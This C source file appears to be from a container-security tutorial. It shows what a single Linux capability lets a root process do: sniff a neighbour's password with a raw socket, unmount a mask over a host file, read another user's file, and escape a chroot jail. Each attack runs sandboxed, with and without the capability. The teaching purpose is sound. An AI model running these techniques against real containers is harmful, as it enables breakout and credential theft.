/* doors.c - capabilities as doors: what one of them alone opens, and what is shut without it.
 *
 * Each attack is tried twice by a process that is user 0: first with this capability and no
 * other, then with all that a container has by default, but for this one. The module does the
 * dropping, with the learner's functions or the reference's. Each try is a child with mounts and
 * a network of its own, so whoever wins, the host stays as it is.
 *
 * Read on: capabilities(7), the list of what each of them allows; packet(7), chroot(2).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/if_ether.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include "../c02-chroot/inside.h"
#include "../c02-chroot/roots.h"
#include "doors.h"
#include "drop.h"
#include "namespaces.h"
#include "names.h"
#include "rootless.h"

enum { NOBODY = 65534, DEEP = 64 };

/* Where an attack takes place. */
struct scene {
    const char *directory; /* of this session */
    const char *secret;    /* a file of the host */
    bool rootless;         /* root only in a user namespace */
    int neighbour;         /* a byte to it, and it sends its password */
};

struct door {
    const char *name;
    cap_value_t capability;
    int (*prepare)(struct scene *scene); /* still with everything; 0, or -1 with errno */
    void (*attack)(struct scene *scene);
};

static bool tell(const char *call, int result)
{
    printf("    %-46s %s\n", call, result == -1 ? strerror(errno) : "works");
    return result != -1;
}

static void verdict(bool out)
{
    puts(out ? "  OUT" : "  held");
}

static const char *below(const struct scene *scene, const char *name)
{
    static char path[PATH_MAX];

    snprintf(path, sizeof path, "%s/%s", scene->directory, name);
    return path;
}

/* Reads the first line of PATH and says what came of it. Returns whether it is the secret. */
static bool read_secret(const char *path, const char *called)
{
    char call[128], text[64] = "";
    FILE *file = fopen(path, "re");
    int error = errno;

    snprintf(call, sizeof call, "read %s", called);
    if (file && fgets(text, sizeof text, file))
        text[strcspn(text, "\n")] = '\0';
    if (file)
        fclose(file);
    printf("    %-46s %s%s%s\n", call, file ? "\"" : "", file ? text : strerror(error),
           file ? "\"" : "");
    return strcmp(text, ROOTS_SECRET) == 0;
}

/* --- net_raw: all that passes by ---------------------------------------------------- */

#define PASSWORD "PASSWORD=of-a-neighbour"

/* Another program in the same network, which tells somebody its password. */
static _Noreturn void be_neighbour(int told)
{
    struct sockaddr_in to = {.sin_family = AF_INET,
                             .sin_port = htons(9999),
                             .sin_addr = {htonl(INADDR_LOOPBACK)}};
    int line = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    char go;

    if (read(told, &go, 1) == 1)
        (void)sendto(line, PASSWORD, sizeof PASSWORD, 0, (struct sockaddr *)&to,
                     sizeof to);
    _exit(0);
}

static int prepare_network(struct scene *scene)
{
    int told[2];

    if (unshare(CLONE_NEWNET) == -1 || namespaces_loopback() == -1 ||
        pipe2(told, O_CLOEXEC) == -1)
        return -1;
    pid_t child = fork();
    if (child == 0) {
        close(told[1]); /* or it would wait for itself when we are gone */
        be_neighbour(told[0]);
    }
    close(told[0]);
    scene->neighbour = told[1];
    return child == -1 ? -1 : 0;
}

static void attack_network(struct scene *scene)
{
    struct timeval patience = {.tv_sec = 5};
    char packet[2048];
    bool heard = false;
    int ear = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));

    if (tell("socket(AF_PACKET, SOCK_RAW)", ear)) {
        (void)setsockopt(ear, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
        if (write(scene->neighbour, "", 1) == 1) {
            ssize_t length;
            while (!heard && (length = read(ear, packet, sizeof packet)) > 0)
                heard = memmem(packet, (size_t)length, PASSWORD, strlen(PASSWORD));
        }
        printf("    %-46s %s\n", "what a neighbour sends to somebody else",
               heard ? "\"" PASSWORD "\"" : "is not heard");
        close(ear);
    }
    close(scene->neighbour);
    (void)wait(NULL); /* the neighbour, which ends by itself */
    verdict(heard);
}

/* --- sys_admin: what is covered, uncovered ------------------------------------------ */

static int prepare_mask(struct scene *scene)
{
    return mount("/dev/null", scene->secret, NULL, MS_BIND, NULL);
}

static void attack_mask(struct scene *scene)
{
    (void)read_secret(scene->secret, "a file that is masked");
    (void)tell("umount2(the mask, MNT_DETACH)", umount2(scene->secret, MNT_DETACH));
    verdict(read_secret(scene->secret, "the file"));
}

/* --- dac_override: a file of somebody else ------------------------------------------ */

static int prepare_file(struct scene *scene)
{
    const char *path = below(scene, "private");
    int file = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    int result;

    if (file == -1)
        return -1;
    /* Only with other users can there be a file of another user; else one that is for nobody. */
    if (scene->rootless)
        result = fchmod(file, 0);
    else
        result = fchown(file, NOBODY, NOBODY);
    if (result == 0 && dprintf(file, "%s\n", ROOTS_SECRET) < 0)
        result = -1;
    close(file);
    return result;
}

static void attack_file(struct scene *scene)
{
    verdict(read_secret(below(scene, "private"),
                        scene->rootless ? "a file with mode 0000"
                                        : "a file of user 65534, mode 0600"));
}

/* --- sys_chroot: the way out of c02 ------------------------------------------------- */

static int prepare_jail(struct scene *scene)
{
    char path[PATH_MAX];

    snprintf(path, sizeof path, "%s", below(scene, "jail"));
    if ((mkdir(path, 0755) == -1 && errno != EEXIST) || chdir(path) == -1)
        return -1;
    if (mkdir("x", 0755) == -1 && errno != EEXIST)
        return -1;
    return chroot(".");
}

static void attack_jail(struct scene *scene)
{
    if (!tell("chroot(\"x\"), and no chdir", chroot("x"))) {
        verdict(false);
        return;
    }
    int up = 0;
    while (up < DEEP && chdir("..") == 0)
        up++;
    (void)tell("chdir(\"..\"), as often as it takes", up == DEEP ? 0 : -1);
    (void)tell("chroot(\".\")", chroot("."));
    verdict(read_secret(scene->secret, "a file of the host"));
}

/* --- trying them -------------------------------------------------------------------- */

static const struct door doors[] = {
    {"net_raw", CAP_NET_RAW, prepare_network, attack_network},
    {"sys_admin", CAP_SYS_ADMIN, prepare_mask, attack_mask},
    {"dac_override", CAP_DAC_OVERRIDE, prepare_file, attack_file},
    {"sys_chroot", CAP_SYS_CHROOT, prepare_jail, attack_jail},
};

enum { DOORS = sizeof doors / sizeof *doors };

const char *const doors_names[] = {"net_raw", "sys_admin", "dac_override", "sys_chroot",
                                   NULL};

struct trial {
    const struct door *door;
    struct scene scene;
    bool open; /* with the capability */
};

static int try_inside(struct tutor *tutor, void *context)
{
    struct trial *trial = context;
    capabilities_set this = CAPABILITY(trial->door->capability);
    const char *failed;

    if (unshare(CLONE_NEWNS) == -1 ||
        mount(NULL, "/", NULL, MS_PRIVATE | MS_REC, NULL) == -1)
        return tutor_error(tutor, "a mount namespace: %s", strerror(errno));
    if (trial->door->prepare(&trial->scene) == -1)
        return tutor_error(tutor, "to prepare the attack: %s", strerror(errno));
    failed = drop_to(trial->open ? this : capabilities_default() & ~this);
    if (failed) {
        printf("  not tried: %s: %s\n", failed, strerror(errno));
        return 0;
    }
    trial->door->attack(&trial->scene);
    return 0;
}

static int try_once(struct tutor *tutor, struct trial *trial, bool open)
{
    trial->open = open;
    if (open)
        printf("before: capabilities_set_to (%s) and so on, to cap_%s alone\n",
               inside_whose("capabilities_set_to"), trial->door->name);
    else
        printf(
            "after: capabilities_set_to (%s) and so on, to the usual list without it\n",
            inside_whose("capabilities_set_to"));
    int status = inside_child(tutor, try_inside, trial);
    /* What an attack made; a file that it did not make is not there. */
    (void)unlink(below(&trial->scene, "private"));
    (void)rmdir(below(&trial->scene, "jail/x"));
    (void)rmdir(below(&trial->scene, "jail"));
    return status;
}

int doors_try(struct tutor *tutor, const char *name)
{
    struct trial trial = {.scene = {.rootless = rootless_needed()}};

    for (int i = 0; i < DOORS; i++) {
        if (strcmp(doors[i].name, name) == 0)
            trial.door = &doors[i];
    }
    if (!trial.door)
        return -1;
    trial.scene.secret = roots_secret(tutor);
    trial.scene.directory = tutor_directory(tutor);
    if (!trial.scene.secret || !trial.scene.directory)
        return 1;
    roots_say_rootless(tutor);
    int status = try_once(tutor, &trial, true);
    return status ? status : try_once(tutor, &trial, false);
}
